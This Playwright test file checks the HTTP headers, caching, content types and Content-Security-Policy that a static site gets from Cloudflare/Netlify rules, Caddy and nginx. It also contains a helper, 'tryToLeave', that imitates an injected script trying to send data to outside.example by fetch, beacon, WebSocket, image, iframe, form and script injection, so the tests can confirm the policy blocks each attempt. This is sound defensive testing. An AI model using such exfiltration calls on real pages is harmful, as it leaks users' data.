/** HTTP headers: the same in every server configuration, and sent by real servers. */
import { expect, test, type APIResponse, type Page, type Response } from '@playwright/test';
import { extname } from 'node:path';
import { readSource } from '../../src/i18n/source-text.ts';
import { hostRules } from '../../src/site/build/host-rules.ts';
import { caching, documents, everywhere, worker } from '../../src/site/build/server-headers.ts';
import { PLAIN, UNDER_BASE, addressOf, builtFiles, readBuilt } from '../support/built-site.ts';
import { watch } from '../support/healthy-page.ts';
import { spaceOutPresses } from '../support/press-pace.ts';
import { missingServer, start } from '../support/server.ts';
import { wordsOf } from '../support/words.ts';

const ofPages = { ...everywhere, ...documents };

for (const [file, text] of Object.entries(hostRules)) {
  test(`${file} is what \`npm run host-rules\` writes`, () => {
    expect(readSource(file)).toBe(text);
  });
}

for (const site of [PLAIN, UNDER_BASE]) {
  test(`${site.folder} has the file by which GitHub Pages publishes _astro/ from a branch`, () => {
    expect(readBuilt(site, '.nojekyll')).toBe('');
  });

  test.describe(`_headers of ${site.folder}, for Cloudflare Pages and Netlify`, () => {
    const rules = () =>
      readBuilt(site, '_headers')
        .trim()
        .split('\n\n')
        .map((text) => {
          const [path = '', ...lines] = text.split('\n');
          return { path, lines: lines.map((line) => line.trim()) };
        });

    /**
     * The headers that Cloudflare adds to every response for this address. Its rules do not depend
     * on the status.
     */
    const headersAt = (address: string): ReadonlyMap<string, readonly string[]> => {
      const headers = new Map<string, readonly string[]>();
      for (const { path, lines } of rules()) {
        if (path !== address && path !== '/*') continue;
        for (const line of lines) {
          const [name = '', value = ''] = line.split(/: (.*)/);
          if (name.startsWith('! ')) headers.delete(name.slice(2));
          else headers.set(name, [...(headers.get(name) ?? []), value]);
        }
      }
      return headers;
    };

    test('caches hashed files permanently, and never a missing file', () => {
      const assets = builtFiles(site).filter((file) => file.startsWith('_astro/'));
      expect(assets.length).toBeGreaterThan(20);
      for (const file of assets) {
        expect(headersAt(site.base + file).get('Cache-Control'), file).toEqual([caching.assets]);
      }
      const missing = ['_astro/', '_astro/x.js', `${assets[0]}.br`, 'en/', 'sw.js', 'x/sw.js'];
      for (const name of missing) {
        expect(headersAt(site.base + name).get('Cache-Control'), name).toEqual([caching.pages]);
      }
    });

    test('contains every header with the same value', () => {
      for (const [name, value] of Object.entries(ofPages)) {
        expect(headersAt(`${site.base}en/`).get(name), name).toEqual([value]);
      }
      const policy = worker['Content-Security-Policy'];
      expect(headersAt(`${site.base}sw.js`).get('Content-Security-Policy')).toEqual([policy]);
    });

    test('has at most as many rules as Cloudflare reads, and only one pattern, which matches everything', () => {
      expect(rules().length).toBeLessThanOrEqual(100);
      expect(rules().filter(({ path }) => /[*:]/.test(path))).toHaveLength(1);
    });
  });
}

/**
 * Tries to send data as an injected script could. The returned list grows with each refusal by the
 * page’s policy.
 */
async function tryToLeave(page: Page): Promise<() => Promise<readonly string[]>> {
  await page.evaluate(async () => {
    const refused: string[] = [];
    Object.assign(globalThis, { refused });
    document.addEventListener('securitypolicyviolation', (event) =>
      refused.push(event.effectiveDirective),
    );
    const outside = 'https://outside.example/';
    const append = <Name extends keyof HTMLElementTagNameMap>(
      name: Name,
      values: Partial<HTMLElementTagNameMap[Name]>,
    ) => document.body.appendChild(Object.assign(document.createElement(name), values));
    await fetch(outside).catch(() => undefined);
    navigator.sendBeacon(outside, 'x');
    try {
      new WebSocket('wss://outside.example/');
    } catch {
      // Some browsers throw immediately.
    }
    append('img', { src: `${outside}x.png` });
    append('iframe', { src: outside });
    const form = append('form', { action: outside, method: 'post' });
    form.requestSubmit();
    const script = document.createElement('script');
    script.append('globalThis.ranInjected = true');
    document.body.append(script);
    try {
      document.body.innerHTML = '<b>x</b>';
    } catch {
      refused.push('innerHTML');
    }
  });
  return () => page.evaluate(() => (globalThis as unknown as { refused: string[] }).refused);
}

/** The type of each file, by its extension. Text has a charset. */
const TYPES: Readonly<Record<string, RegExp>> = {
  html: /^text\/html; charset=utf-8$/,
  css: /^text\/css; charset=utf-8$/,
  // RFC 9239: both names are in use.
  js: /^(text|application)\/javascript; charset=utf-8$/,
  svg: /^image\/svg\+xml(; charset=utf-8)?$/,
  png: /^image\/png$/,
  md: /^text\/markdown; charset=utf-8$/,
  txt: /^text\/plain; charset=utf-8$/,
  webmanifest: /^application\/manifest\+json/,
  zip: /^application\/zip$/,
};

/** Each kind of address that a reader can open. */
const ADDRESSES = [
  ...['/', '/ja', '/ja/', '/ja/2fa', '/ja/2fa/', '/ja/2fa/index.html', '/ja/2f%61/'],
  ...['/ja/2fa?from=mail', '/ja/2fa?from=mail#prerequisites', '/ja/2fa/?a=%2F&b=', '/en/2fa/#x'],
  ...['/ja/2fa/index.md', '/en/glossary/index.md', '/ja/llms.txt', '/llms.txt', '/favicon.svg'],
  ...['/ja/nowhere/', '/ja/nowhere', '/nowhere?x=1', '/ja/2fa/x', '/ja/2fa.html', '/JA/2fa/'],
  ...['/_astro/nowhere.js', '/_astro/', '/_astro', '/_headers', '/favicon.svg/', '/ja/%ff/'],
];

/**
 * The encoding of each server’s precompressed files. Debian packages nginx’s brotli module
 * separately.
 */
const PACKED = { caddy: 'br', nginx: 'gzip' } as const;

for (const name of ['caddy', 'nginx'] as const) {
  test.describe(`${name}, as configured in deploy/`, () => {
    const missing = missingServer(name);
    test.skip(missing !== undefined, missing);
    let server: Awaited<ReturnType<typeof start>>;
    test.beforeAll(async () => {
      server = await start(name);
    });
    test.afterAll(() => server?.stop());

    test('sends every page and the 404 page with the same headers, and no-cache', async ({
      request,
    }) => {
      const pages = builtFiles(PLAIN).filter((file) => /index\.html$/.test(file));
      expect(pages.length).toBeGreaterThan(20);
      for (const address of [...pages.map((file) => addressOf(PLAIN, file)), '/nowhere/']) {
        const answer = await request.get(`${server.origin}${address}`);
        expect(answer.status(), address).toBe(address === '/nowhere/' ? 404 : 200);
        const headers = answer.headers();
        for (const [header, value] of Object.entries(ofPages)) {
          expect(headers[header.toLowerCase()], `${address} ${header}`).toBe(value);
        }
        expect(headers['cache-control'], address).toBe(caching.pages);
        expect(await answer.text(), address).toContain('content-security-policy');
      }
    });

    test('responds with no-cache for every missing file', async ({ request }) => {
      const [asset = ''] = builtFiles(PLAIN).filter((file) => /_astro\/.*\.js$/.test(file));
      const missing = [
        ...['/_astro/x.js', '/_astro/x.js.br', '/_astro/x.css.gz', '/_astro/', '/_astro/x/y.js'],
        ...[
          '/docs/_astro/x.js',
          `/${asset}.map`,
          '/en/no-such-page/',
          '/en/no-such-page',
          '/x/sw.js',
        ],
        ...['/_headers', '/%5F%61stro/x.js', '/x.md', '/x.webmanifest'],
      ];
      for (const address of missing) {
        for (const encoding of ['identity', 'br', 'gzip']) {
          const answer = await request.get(`${server.origin}${address}`, {
            headers: { 'Accept-Encoding': encoding },
          });
          const headers = answer.headers();
          expect(answer.status(), `${address} ${encoding}`).toBe(404);
          expect(headers['cache-control'], `${address} ${encoding}`).toBe(caching.pages);
          expect(headers['content-type'], address).toBe('text/html; charset=utf-8');
          expect(headers['content-security-policy'], address).toBe(
            documents['Content-Security-Policy'],
          );
        }
      }
      // nginx refuses it with 405; Debian’s Caddy sends the file.
      const posted = await request.post(`${server.origin}/${asset}`);
      if (!posted.ok()) expect(posted.headers()['cache-control']).not.toBe(caching.assets);
    });

    test('sends text as UTF-8 with its own type', async ({ request }) => {
      for (const [address, type] of [
        ['/ja/2fa/', 'text/html; charset=utf-8'],
        ['/ja/llms.txt', 'text/plain; charset=utf-8'],
        ['/ja/2fa/index.md', 'text/markdown; charset=utf-8'],
        ['/ja/guide.webmanifest', /^application\/manifest\+json/],
      ] as const) {
        const answer = await request.get(`${server.origin}${address}`);
        expect(answer.headers()['content-type'], address).toEqual(
          typeof type === 'string' ? type : expect.stringMatching(type),
        );
        expect(answer.headers()['content-security-policy'], address).toBe(
          documents['Content-Security-Policy'],
        );
      }
    });

    test('sends every type of file with its type, its charset, and the right caching; a missing one is not cached', async ({
      request,
    }) => {
      const files = builtFiles(PLAIN);
      const rows = new Map<string, string>();
      for (const file of files) {
        const ending = extname(file).slice(1);
        const isAsset = file.startsWith('_astro/');
        const answer = await request.get(server.origin + addressOf(PLAIN, file));
        const headers = answer.headers();
        expect(answer.status(), file).toBe(200);
        expect(headers['content-type'], file).toMatch(TYPES[ending] ?? /^a type for this ending/);
        expect(headers['cache-control'], file).toBe(isAsset ? caching.assets : caching.pages);
        expect(headers['x-content-type-options'], file).toBe('nosniff');
        const place = isAsset ? '/_astro/*' : '/*';
        rows.set(
          `${place}.${ending}`,
          `200 | ${headers['content-type']} | ${headers['cache-control']}`,
        );
      }
      for (const ending of Object.keys(TYPES)) {
        const missing = `/_astro/missing.${ending}`;
        const answer = await request.get(server.origin + missing);
        const headers = answer.headers();
        expect(answer.status(), missing).toBe(404);
        expect(headers['content-type'], missing).toMatch(TYPES['html'] as RegExp);
        expect(headers['cache-control'], missing).toBe(caching.pages);
        rows.set(missing, `404 | ${headers['content-type']} | ${headers['cache-control']}`);
      }
      const withheld = await request.get(`${server.origin}/_headers`);
      expect(withheld.status()).toBe(404);
      rows.set('/_headers', `404 | ${withheld.headers()['content-type']}`);
      console.log(
        `${name}: ${files.length} files\n${[...rows].map((row) => row.join(' | ')).join('\n')}`,
      );
    });

    test('answers each kind of address as an offline copy does', async ({ page, context }) => {
      await spaceOutPresses(page);
      await page.goto(`${server.origin}/en/about/`);
      await page.locator('.offline button:enabled').click();
      await expect(page.locator('.offline span')).toHaveText(
        String(wordsOf('en').get('offline:kept')),
        { timeout: 60_000 },
      );
      type Answer = { status: number; end: string; type: string; body: string };
      const online = new Map<string, Answer>();
      for (const address of ADDRESSES) {
        const answer = await context.request.get(server.origin + address);
        online.set(address, await read(answer));
      }
      await context.setOffline(true);
      async function read(answer: APIResponse | Response): Promise<Answer> {
        const { origin, pathname, search } = new URL(answer.url());
        expect(origin).toBe(server.origin);
        return {
          status: answer.status(),
          end: pathname + search,
          // RFC 9239 gives a script both types.
          type: (answer.headers()['content-type'] ?? '').replace(
            'application/javascript',
            'text/javascript',
          ),
          body: await answer.text(),
        };
      }
      const rows: string[] = [];
      for (const address of ADDRESSES) {
        const answer = await page.goto(server.origin + address);
        if (!answer) throw new Error(`No answer to ${address}`);
        expect(await read(answer), address).toEqual(online.get(address));
        // The fragment keeps the reader’s position in the page.
        expect(new URL(page.url()).hash, address).toBe(new URL(address, server.origin).hash);
        const { status, end, type } = await read(answer);
        rows.push(`${address} | ${status} | ${end} | ${type}`);
      }
      console.log(`${name} and an offline copy, ${rows.length} addresses\n${rows.join('\n')}`);
    });

    test('caches the compressed copy of a hashed file permanently', async ({ request }) => {
      const [asset = ''] = builtFiles(PLAIN).filter((file) => /_astro\/.*\.js$/.test(file));
      for (const address of [`/${asset}.br`, `/${asset}.gz`]) {
        const answer = await request.get(`${server.origin}${address}`);
        expect(answer.status(), address).toBe(200);
        expect(answer.headers()['cache-control'], address).toBe(caching.assets);
      }
    });

    test('allows the service worker to load the site and nothing else', async ({ request }) => {
      const headers = (await request.get(`${server.origin}/sw.js`)).headers();
      expect(headers['content-security-policy']).toBe(worker['Content-Security-Policy']);
      expect(headers['cache-control']).toBe(caching.pages);
      expect(headers['x-content-type-options']).toBe('nosniff');
    });

    test('sends hashed files compressed, to be cached permanently', async ({ request }) => {
      const assets = builtFiles(PLAIN).filter((file) => /_astro\/.*\.(js|css)$/.test(file));
      for (const file of assets) {
        const answer = await request.get(`${server.origin}/${file}`);
        expect(answer.headers()['cache-control'], file).toBe(caching.assets);
        expect(answer.headers()['x-content-type-options'], file).toBe('nosniff');
      }
      const packed = await request.get(`${server.origin}/ja/2fa/`, {
        headers: { 'Accept-Encoding': PACKED[name] },
      });
      expect(packed.headers()['content-encoding']).toBe(PACKED[name]);
      // Precompressed files: Caddy cannot compress with brotli itself, and nginx sends no length
      // for what it compresses itself.
      if (name === 'nginx') expect(Number(packed.headers()['content-length'])).toBeLessThan(7_500);
      expect(await packed.text()).toContain('</html>');
    });

    test('serves a working simulator whose policy blocks every connection', async ({ page }) => {
      const complaints = await watch(page, server.origin);
      await page.goto(`${server.origin}/ja/practice/`);
      await expect(page.locator('.simulator-place')).toHaveAttribute('data-ready', '');
      expect(complaints).toEqual([]);
      const asked: string[] = [];
      page.on('response', (response) => asked.push(response.url()));
      const refused = await tryToLeave(page);
      const WAYS = ['connect-src', 'img-src', 'frame-src', 'form-action', 'innerHTML'];
      await expect.poll(refused).toEqual(expect.arrayContaining(WAYS));
      expect(await refused()).toContain('require-trusted-types-for');
      expect(await page.evaluate(() => 'ranInjected' in globalThis)).toBe(false);
      expect(asked.filter((url) => url.includes('outside'))).toEqual([]);
    });

    test('serves a site below a path: its pages, its 404 page, and nothing cached that is missing', async ({
      request,
    }) => {
      const below = await start(name, UNDER_BASE);
      try {
        const at = async (path: string) => {
          const answer = await request.get(below.origin + UNDER_BASE.base + path);
          const headers = answer.headers();
          return {
            status: answer.status(),
            end: new URL(answer.url()).href.slice(below.origin.length + UNDER_BASE.base.length),
            caching: headers['cache-control'],
            policy: headers['content-security-policy'],
            body: await answer.text(),
          };
        };
        const policy = documents['Content-Security-Policy'];
        const page = { caching: caching.pages, policy };
        const english = readBuilt(UNDER_BASE, 'en/2fa/index.html');
        for (const path of ['en/2fa/', 'en/2fa']) {
          expect(await at(path)).toEqual({ ...page, status: 200, end: 'en/2fa/', body: english });
        }
        expect((await at('en/2fa?from=mail')).end).toBe('en/2fa/?from=mail');
        const body = readBuilt(UNDER_BASE, '404.html');
        for (const path of ['nowhere/', '_astro/x.js', '_headers']) {
          expect(await at(path), path).toEqual({ ...page, status: 404, end: path, body });
        }
        const [asset = ''] = builtFiles(UNDER_BASE).filter((file) => /_astro\/.*\.js$/.test(file));
        expect(await at(asset)).toMatchObject({ status: 200, caching: caching.assets });
        expect((await at('sw.js')).policy).toBe(worker['Content-Security-Policy']);
      } finally {
        below.stop();
      }
    });
  });
}
